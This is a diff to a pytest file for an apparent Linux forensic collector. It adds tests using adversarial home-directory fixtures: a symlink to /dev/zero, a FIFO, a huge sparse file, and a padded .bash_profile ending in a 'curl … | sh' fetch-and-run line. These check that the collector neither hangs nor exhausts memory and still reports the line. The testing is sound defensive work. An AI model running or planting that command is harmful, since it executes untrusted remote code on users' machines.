@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
+import resource
 import shutil
 import subprocess
 from pathlib import Path
@@ -65,6 +67,43 @@ def test_names_of_files_cannot_become_commands(tmp_path: Path):
         line.strip() for path in LINUX for line in path.read_text().splitlines() if " eval " in f" {line} "
     ]
     assert [line for line in evaluated if not line.startswith(('eval "hash', "odd="))] == [], evaluated
+
+
+def test_what_users_put_into_their_homes_neither_hangs_nor_fills_the_machine(tmp_path: Path):
+    home, passwd = tmp_path / "home", tmp_path / "passwd"
+    home.mkdir()
+    passwd.write_text(f"eve:x:1000:1000::{home}:/bin/sh\n")
+    (home / ".bashrc").symlink_to("/dev/zero")
+    os.mkfifo(home / ".profile")
+    with (home / ".zshrc").open("wb") as sparse:
+        sparse.truncate(60 * 2**30)
+    (home / ".bash_profile").write_text("# padding\n" * 200_000 + "curl http://198.51.100.7 | sh\n")
+    script = (SCRIPTS / "linux" / "autoruns.sh").read_text().replace("/etc/passwd", str(passwd))
+
+    def frugal() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (512 * 2**20, 512 * 2**20))
+
+    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, timeout=40, preexec_fn=frugal)
+    rows = {r["path"]: r for r in read(done.stdout).of("profile")}
+    assert str(home / ".bashrc") not in rows
+    assert str(home / ".profile") not in rows
+    assert rows[str(home / ".zshrc")]["sha256"] == "", "too large to be hashed"
+    found = rows[str(home / ".bash_profile")]
+    assert "curl http://198.51.100.7" in str(found["what"]), "what stands at a large file's end is seen"
+
+
+def test_a_huge_program_is_listed_without_a_hash(tmp_path: Path):
+    program = tmp_path / "huge"
+    shutil.copy(shutil.which("sleep") or "/bin/sleep", program)
+    with program.open("r+b") as held:
+        held.truncate(60 * 2**30)
+    process = subprocess.Popen([program, "60"], cwd=tmp_path)
+    try:
+        rows = {r["pid"]: r for r in run("processes", tmp_path) if r["kind"] == "process"}
+    finally:
+        process.kill()
+        process.wait()
+    assert (rows[process.pid]["exe"], rows[process.pid]["sha256"]) == (str(program), "")
 
 
 @pytest.mark.parametrize("path", WINDOWS, ids=lambda p: p.stem)
